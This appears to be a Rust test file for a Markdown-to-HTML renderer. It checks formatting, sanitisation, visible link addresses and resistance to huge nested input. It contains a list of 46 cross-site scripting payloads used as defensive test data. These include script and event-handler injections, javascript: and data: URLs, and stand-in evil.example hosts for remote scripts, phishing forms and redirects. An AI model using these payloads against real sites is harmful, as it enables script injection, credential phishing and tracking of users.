use super::markdown;

#[test]
fn markdown_as_html() {
    let check = |text: &str, html: &str| assert_eq!(markdown(text).trim_end(), html, "{text:?}");
    check("Deploy **now**?", "<p>Deploy <strong>now</strong>?</p>");
    check(
        "see [the notes](https://example.com/a?b=1&c)",
        "<p>see <a href=\"https://example.com/a?b=1&amp;c\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">the notes</a> <span class=\"address\">(https://example.com/a?b=1&amp;c)</span></p>",
    );
    check(
        "<https://example.com>",
        "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.com</a></p>",
    );
    check(
        "[settings](/api/asks) [x](file:///etc/passwd)",
        "<p>settings <span class=\"address\">(/api/asks)</span> x <span class=\"address\">(file:///etc/passwd)</span></p>",
    );
    check(
        "![a *cat*](https://example.com/cat.png)",
        "<p>[image: a <em>cat</em>] <span class=\"address\">(https://example.com/cat.png)</span></p>",
    );
    check(
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>",
    );
    check(
        "```rust\nlet x = \"<b>\";\n```",
        "<pre><code><span class=\"kw\">let</span> x = <span class=\"str\">\"&lt;b&gt;\"</span>;\n</code></pre>",
    );
    check(
        "```diff\n--- a\n+++ b\n@@ -1 +1 @@\n-old\n+<b>new\n same\n```",
        concat!(
            "<pre class=\"diff\"><code><span class=\"line meta\">--- a\n</span>",
            "<span class=\"line meta\">+++ b\n</span><span class=\"line hunk\">@@ -1 +1 @@\n</span>",
            "<span class=\"line del\">-old\n</span><span class=\"line add\">+&lt;b&gt;new\n</span>",
            "<span class=\"line\"> same\n</span></code></pre>",
        ),
    );
    check(
        "3. three\n4. four",
        "<ol start=\"3\">\n<li>three</li>\n<li>four</li>\n</ol>",
    );
    check(
        "pay\u{202e}lru and &#x202e; and \u{1b}[2J",
        "<p>pay⟨U+202E⟩lru and ⟨U+202E⟩ and ⟨U+001B⟩[2J</p>",
    );
}

/// What attackers try. Some are Markdown, some HTML, some both.
const CORPUS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.png\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example><input name=pin><button>Approve</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"position:fixed;inset:0\" id=approve class=danger>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](<https://evil.example/' onmouseover='alert(1)>)",
    "![x](https://evil.example/x.png \"onerror=alert(1)\")",
    "![x\" onerror=\"alert(1)](x)",
    "```diff\n+<img src=x onerror=alert(1)>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "<a href=x>[y](javascript:alert(1))</a><script\n>alert(1)</script\n>",
];

#[test]
fn nothing_that_attackers_try_is_more_than_text() {
    for text in CORPUS {
        for text in [
            text.to_owned(),
            format!("a\n\n> {text}\n"),
            format!("| {text} |\n|-|\n| {text} |"),
        ] {
            let html = markdown(&text);
            for tag in tags(&html) {
                let fine = super::sanitize::TAGS.contains(
                    &tag.trim_start_matches('/')
                        .split([' ', '\n'])
                        .next()
                        .unwrap(),
                );
                assert!(fine, "<{tag}> out of {text:?}: {html}");
                for attribute in attributes(tag) {
                    let (name, value) = attribute;
                    let fine = match name {
                        "href" => {
                            value.starts_with("https://")
                                || value.starts_with("http://")
                                || value.starts_with("mailto:")
                        }
                        "class" | "start" | "rel" => true,
                        "target" => value == "_blank",
                        _ => false,
                    };
                    assert!(fine, "{name}={value:?} out of {text:?}: {html}");
                }
            }
        }
    }
}

/// What stands between a `<` and the next `>`: text has neither.
fn tags(html: &str) -> Vec<&str> {
    html.split('<')
        .skip(1)
        .map(|rest| rest.split_once('>').expect("a whole tag").0)
        .collect()
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag
        .split_once(' ')
        .map(|(_, rest)| rest)
        .unwrap_or_default();
    let mut found = Vec::new();
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a closed value");
        found.push((name.trim(), value));
        rest = after;
    }
    assert_eq!(rest.trim(), "", "a strange rest in <{tag}>");
    found
}

#[test]
fn an_address_is_always_in_sight() {
    let check = |text: &str, address: &str| {
        let html = markdown(text);
        let seen: String = html
            .split('<')
            .filter_map(|part| part.split_once('>'))
            .map(|(_, text)| text)
            .collect();
        assert!(seen.contains(address), "{text:?}: {html}");
    };
    check(
        "[https://good.example](https://evil.example)",
        "(https://evil.example)",
    );
    check("[**b**](https://evil.example)", "(https://evil.example)");
    check(
        "[![x](https://a.example/i.png)](https://b.example)",
        "(https://b.example)",
    );
    check(
        "[![x](https://a.example/i.png)](https://b.example)",
        "(https://a.example/i.png)",
    );
    check(
        "[x][r]\n\n[r]: https://evil.example",
        "(https://evil.example)",
    );
    check("[](https://evil.example)", "(https://evil.example)");
}

#[test]
fn depth_and_size_do_no_harm() {
    for text in [
        ">".repeat(30_000) + "x",
        "* ".repeat(10_000) + "x",
        "[".repeat(30_000),
        "*a ".repeat(15_000),
        "<b>".repeat(20_000),
    ] {
        assert!(markdown(&text).len() < 8_000_000);
    }
}
